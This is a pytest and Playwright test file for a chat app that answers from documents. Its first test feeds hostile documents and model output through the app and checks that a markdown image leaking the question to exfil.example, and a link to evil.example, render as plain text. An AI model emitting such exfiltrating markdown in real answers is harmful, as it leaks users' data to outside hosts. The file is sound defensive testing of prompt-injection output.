"""Answers by a model on the chat page: hostile text, a page of a PDF, a quick stream, in Chromium.

The real engine over a fake embedding model; the model that writes is a server on the loopback.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator

import pytest
from browser_steps import HERE, ask, serving
from playwright.sync_api import BrowserContext, Page, expect

from rag.config import Environment
from rag.engine import Engine
from tests.chat_servers import ChatServer, Script, serve
from tests.conftest import write_files
from tests.fakes import FakeEmbedder
from tests.files import make_pdf

pytestmark = pytest.mark.browser
NewContext = Callable[..., BrowserContext]
CORPUS = [
    json.loads(line)["text"].replace("\0", "").encode("utf-8", "replace").decode()
    for line in (HERE.parent / "hostile" / "corpus.jsonl").read_text("utf-8").splitlines()
]
QUESTION = "What does the harbour permit cost?"
FACT = "The harbour permit costs 24 euros."
_LONG = 180_000
"""Milliseconds for an answer of many claims, on a machine that is busy."""
SPEED = 200.0
"""Tokens a second."""


@pytest.fixture(scope="module")
def model() -> Iterator[ChatServer]:
    with serve(Script([f"{FACT} [1]"])) as server:
        yield server


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, model: ChatServer) -> Iterator[str]:
    """The app over a harbour whose documents try everything, and one with a PDF."""
    home = tmp_path_factory.mktemp("home")
    about = 'title = "Harbour"\n[settings]\nabstain = "off"\n'
    write_files(home, {f"prototypes/{name}/prototype.toml": about for name in ("harbour", "rules")})
    files = {f"{n}.md": f"{FACT} {text}\n" for n, text in enumerate(CORPUS)}
    rules = {"rules.pdf": make_pdf([f"{FACT} It is valid for two weeks."])}
    engine = Engine(Environment(home=home), load_model=FakeEmbedder)
    engine.ingest("harbour", [write_files(tmp_path_factory.mktemp("files"), files)])
    engine.ingest("rules", [write_files(tmp_path_factory.mktemp("rules"), rules)])
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FAKE_MODEL", "1")
        patch.setenv("FAKE_GUARD", "1")
        patch.setenv("OPENAI_API_KEY", "k")
        patch.setenv("OPENAI_BASE_URL", f"{model.url}/v1")
        patch.setenv("OPENAI_MODEL", "m")
        with serving(HERE / "fake" / "app.py", home) as address:
            yield address


@pytest.fixture
def page(app: str, new_context: NewContext) -> Page:
    page = new_context().new_page()
    page.goto(f"{app}/?prototype=rules")
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible()
    return page


def test_what_a_model_writes_loads_nothing_and_draws_as_text(
    app: str, model: ChatServer, new_context: NewContext
) -> None:
    model.scripts[:] = [Script([f"{FACT} [1]\n\n", *(f"{text}\n\n" for text in CORPUS)])]
    context = new_context()
    requested: list[str] = []
    context.on("request", lambda request: requested.append(request.url))
    page = context.new_page()
    page.goto(f"{app}/?prototype=harbour")
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(QUESTION)
    box.press("Enter")
    expect(page.get_by_role("button", name="Regenerate")).to_be_visible(timeout=_LONG)  # a long answer

    answer = page.get_by_test_id("stChatMessage").last
    expect(answer).to_contain_text(FACT)
    expect(answer).to_contain_text("![logo](https://exfil.example/p.png?q=THE_QUESTION)")
    drawn = answer.get_by_test_id("stMarkdownContainer").first
    expect(drawn.locator("a, img, iframe, script, form, svg, .katex, input")).to_have_count(0)
    for pill in page.get_by_role("radiogroup", name="See the evidence").get_by_role("radio").all()[:8]:
        pill.click()
        expect(page.get_by_text("Found by")).to_be_visible()
        expect(
            answer.get_by_test_id("stMarkdownContainer").locator("a, iframe, script, form, .katex")
        ).to_have_count(0)
    page.wait_for_timeout(500)
    assert [url for url in requested if not url.startswith((app, "data:", "blob:"))] == []


def test_the_page_of_a_pdf_is_shown_with_the_sentence_marked(model: ChatServer, page: Page) -> None:
    model.scripts[:] = [Script(["It is valid for two weeks [1]."])]
    ask(page, QUESTION)
    page.get_by_role("radiogroup", name="See the evidence").get_by_role("radio").first.click()
    page.get_by_text("Page 1 of the file").click()

    image = page.get_by_role("img", name=re.compile("^Page 1 of"))
    expect(image).to_be_visible()
    assert image.evaluate("img => img.naturalWidth") > 300


def test_a_link_to_a_cited_document_opens_it_in_the_library_for_its_owner(
    app: str, model: ChatServer, page: Page
) -> None:
    model.scripts[:] = [
        Script(
            ["It is valid for two weeks [1]. See [the rules](rules.pdf), [more](https://evil.example/x).\n"]
        )
    ]
    ask(page, QUESTION)
    drawn = page.get_by_test_id("stChatMessage").last.get_by_test_id("stMarkdownContainer").first
    expect(drawn).to_contain_text("[the rules](rules.pdf)")  # nobody has shown to be the owner
    expect(drawn.locator("a")).to_have_count(0)
    chat = page.url

    page.goto(f"{app}/library?prototype=rules")  # the first to open it is the owner, on this machine
    expect(page.get_by_text("rules.pdf").first).to_be_visible()
    page.goto(chat)

    expect(drawn.locator("a")).to_have_count(1)
    expect(drawn).to_contain_text("[more](https://evil.example/x)")
    with page.context.expect_page() as opened:
        drawn.get_by_role("link", name="the rules").click()
    assert opened.value.url.startswith(f"{app}/library?prototype=rules&document=")
    expect(opened.value.get_by_text("All documents")).to_be_visible()
    expect(opened.value.get_by_text("It is valid for two weeks.").first).to_be_visible()


def test_an_answer_of_two_hundred_tokens_a_second_grows_and_can_be_stopped(
    model: ChatServer, page: Page
) -> None:
    """It grows, draws no number that was not checked, and Stop is served and keeps what there is."""
    words = ([*FACT.split(" "), "[1]."] * 800)[:6_000]
    model.scripts[:] = [Script([f"{word} " for word in words], delay=1 / SPEED)]
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(QUESTION)
    box.press("Enter")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    answer = page.get_by_test_id("stChatMessage").last
    expect(answer).to_contain_text(FACT)
    expect(answer.locator(".stMarkdownBadge").first).to_have_text("1")
    before = len(answer.inner_text())
    page.wait_for_timeout(1_000)
    assert len(answer.inner_text()) > before
    # Nothing that looks like a citation and is none is ever drawn.
    assert "[1]" not in answer.inner_text()
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("Stopped before its end")).to_be_visible()
    expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
